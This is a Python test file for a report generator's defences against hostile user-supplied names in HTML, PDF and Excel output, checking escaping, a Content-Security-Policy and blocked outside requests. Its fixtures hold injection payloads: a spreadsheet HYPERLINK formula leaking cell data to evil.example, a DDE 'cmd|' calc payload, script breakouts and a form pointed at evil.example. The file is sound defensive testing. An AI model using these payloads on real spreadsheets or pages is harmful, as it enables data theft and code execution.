"""The offline report with hostile names (issue 12, findings 1 and 2): offer names, level
labels and the title from user files stay data in the HTML report (its simulator still
works in Chromium, under the report's own Content-Security-Policy) and stay text in the
Excel workbook (no cell a spreadsheet would run; the simulator sheet still computes)."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
import subprocess
import warnings
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml
from _formulas import Workbook as FormulaEvaluator
from openpyxl import load_workbook
from test_browser_report import ARTIFACTS

from offerlab.data import FORMULA_STARTS
from offerlab.report._excel import write_excel
from offerlab.report._html import build_report, write_html

ROOT = Path(__file__).resolve().parents[2]
TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
COMPACT = "=1+1 </script><h1>y</h1>"  # level labels: no '"' (the inputs row quotes them)
ELECTRIC = "@SUM(1+9) <!--<script>"
OFFERS = {  # the example market's offers renamed
    "Our Flex Electric": TITLE + '</script><h1>x</h1><form action="https://evil.example">',
    "Our City Compact": "+1+cmd|' /C calc'!A0 <!--<script>",
    "Rival SUV Abo": "\t-rival\u2028line",
}
STATUS_QUO = {"Keep leasing": "\r@keep leasing", "Buy a used car": "-Buy a $\\nosuch$ used car"}
PAYLOAD_PARTS = ("evil.example", "cmd|", "SUM(1+9)", "1+1", "rival", "keep leasing")


@pytest.fixture(scope="module")
def hostile(example, tmp_path_factory) -> SimpleNamespace:
    """The example's answers fitted and reported for a study and market whose texts are
    hostile."""
    from offerlab.decide import load_market, simulator_for
    from offerlab.models import MultinomialLogit
    from offerlab.study import parse_study

    tmp = tmp_path_factory.mktemp("hostile")
    text = (ROOT / "examples" / "car_subscription.yaml").read_text(encoding="utf-8")
    text = text.replace("en: Your car on subscription", f"en: {json.dumps(TITLE)}")
    text = text.replace("en: Compact car}", f"en: {json.dumps(COMPACT)}}}")
    text = text.replace("en: Electric car}", f"en: {json.dumps(ELECTRIC)}}}")
    study = parse_study(text, "hostile.yaml")
    market = yaml.safe_load(example.market_path.read_text(encoding="utf-8"))
    for offer in market["offers"]:
        offer["name"] = OFFERS[offer["name"]]
    for alternative in market["status_quo"]:
        alternative["name"] = STATUS_QUO[alternative["name"]]
    market["optimise"] = {"tiers": [OFFERS[t] for t in market["optimise"]["tiers"]]}
    if "pricing_offer" in market:
        market["pricing_offer"] = OFFERS[market["pricing_offer"]]
    path = tmp / "market.yaml"
    path.write_text(yaml.safe_dump(market, allow_unicode=True), encoding="utf-8")
    spec = load_market(path, study)
    results = MultinomialLogit().fit(example.data, study=study)
    sim = simulator_for(results, "sop", n_draws=50, seed=0)
    the_market = spec.market(results.coding)
    content = build_report(
        results, example.data, study, model="mnl", sim=sim, market=the_market,
        figures=False,
    )  # fmt: skip
    return SimpleNamespace(content=content, sim=sim, market=the_market, tmp=tmp)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._in_script = True
            self.scripts.append((dict(attrs), ""))

    def handle_endtag(self, tag):
        self._in_script = self._in_script and tag != "script"

    def handle_data(self, data):
        if self._in_script:
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)


def test_the_pdf_report_draws_hostile_names_as_written(hostile) -> None:
    """Every glyph drawn (a missing one warns), dollar signs as dollar signs: the name
    with "$\\nosuch$" made matplotlib's mathtext raise and no PDF was written."""
    from offerlab.report import write_pdf

    with warnings.catch_warnings():
        warnings.simplefilter("error", UserWarning)  # "Glyph 9 (\\t) missing from font(s)…"
        pdf = write_pdf(hostile.content, hostile.tmp / "hostile.pdf")
    if not shutil.which("pdftotext"):
        pytest.skip("poppler's pdftotext is not installed (.ci/run installs it)")
    text = subprocess.run(
        ["pdftotext", "-raw", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "-Buy a $\\nosuch$ used car" in text
    assert "-rival line" in text  # the line separator drawn as a space


def test_the_html_report_keeps_hostile_names_as_data_under_its_own_policy(hostile) -> None:
    html = write_html(hostile.content, hostile.tmp / "report.html").read_text(encoding="utf-8")
    start = html.index('<script id="simulator-data" type="application/json">')
    block = html[start : html.index("</script>", start)].split(">", 1)[1]
    for raw in ("</", "<!--", "<script", "<h1", "\u2028"):
        assert raw not in block, raw
    page = _Page()
    page.feed(html)
    assert [t for t, _ in page.tags].count("h1") == 1
    assert not [t for t, _ in page.tags if t == "form"]
    data = json.loads(next(text for attrs, text in page.scripts if attrs.get("id")))
    assert [o["name"] for o in data["offers"]] == list(OFFERS.values())
    assert [f["label"] for f in data["fixed"]] == list(STATUS_QUO.values())
    # one inline script, the simulator's, and the policy allows exactly it by its hash
    inline = [text for attrs, text in page.scripts if not attrs]
    assert len(inline) == 1
    digest = base64.b64encode(hashlib.sha256(inline[0].encode()).digest()).decode()
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)[1]
    assert f"script-src 'sha256-{digest}';" in policy
    for directive in ("default-src 'none'", "base-uri 'none'", "form-action 'none'"):
        assert directive in policy


def test_the_hostile_report_works_in_chromium_and_an_added_script_does_not_run(
    hostile, browser
) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = write_html(hostile.content, hostile.tmp / "report.html")
    # what an injection that escaped the data would add: the policy must stop it
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("</body>", "<script>document.title='ran'</script></body>"))
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    outside: list[str] = []
    context.route(
        "**/*",
        lambda route: (
            route.continue_()
            if route.request.url.startswith(("file://", "data:"))
            else (outside.append(route.request.url), route.abort())
        ),
    )
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    blocked: list[str] = []
    page.on(
        "console",
        lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None,
    )
    page.goto(path.as_uri())
    page.wait_for_selector("#sim-shares .bar")
    assert page.title() != "ran" and len(blocked) == 1, blocked
    assert page.locator("h1").count() == 1 and page.locator("form").count() == 0
    bars = page.locator("#sim-shares .bar")
    shown = [bars.nth(i).get_attribute("data-alternative") for i in range(bars.count())]
    assert shown[:3] == list(OFFERS.values())
    cards = page.locator("#sim-offers .sim-offer h3").all_text_contents()
    assert [c.strip() for c in cards] == [n + " (ours)" for n in list(OFFERS.values())[:2]] + [
        list(OFFERS.values())[2].strip()
    ]
    options = page.locator("#sim-offers .sim-offer").first.locator("option")
    assert COMPACT in options.all_text_contents()
    assert ELECTRIC in options.all_text_contents()
    expected = hostile.sim.shares(hostile.market).set_index("alternative")["share"]
    before = float(bars.first.get_attribute("data-share"))
    assert before == pytest.approx(expected[shown[0]], abs=1e-5)
    price = page.locator("#sim-offers .sim-offer").first.locator("input[type=number]")
    price.fill("790")
    price.dispatch_event("change")
    assert float(page.locator("#sim-shares .bar").first.get_attribute("data-share")) < before
    page.locator("#simulator").screenshot(path=str(ARTIFACTS / "hostile_report.png"))
    assert not errors, errors
    assert not outside, outside


def test_the_excel_report_holds_hostile_texts_as_text_and_still_computes(hostile) -> None:
    path = write_excel(hostile.content, hostile.tmp / "report.xlsx")
    wb = load_workbook(path)  # formulas as written, not cached values
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # only our own formulas
                    assert not any(p in str(cell.value) for p in PAYLOAD_PARTS), cell.coordinate
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_STARTS), (ws.title, cell.coordinate)
    assert wb["Read me"]["A1"].value.startswith("'" + TITLE)
    for name in [*OFFERS.values(), *STATUS_QUO.values()]:
        name = name.replace("\r", "\n")  # XML reads a bare CR back as a line feed
        assert any(t == "'" + name or t == "'" + name + " (ours)" for t in texts), repr(name)
    assert "'" + COMPACT in texts and "'" + ELECTRIC in texts
    # the simulator sheet still gives the library's shares for the renamed offers
    ws = wb["Simulator"]
    header = {ws.cell(5, c).value: c for c in range(2, ws.max_column + 1)}
    share_row = next(r for r in range(1, 60) if ws.cell(r, 1).value == "share of preference")
    expected = hostile.sim.shares(hostile.market).set_index("alternative")["share"]
    book = FormulaEvaluator(wb)
    for name in OFFERS.values():
        column = header.get("'" + name, header.get("'" + name + " (ours)"))
        shown = book.value("Simulator", share_row, column)
        assert shown == pytest.approx(expected[name], abs=1e-6), repr(name)
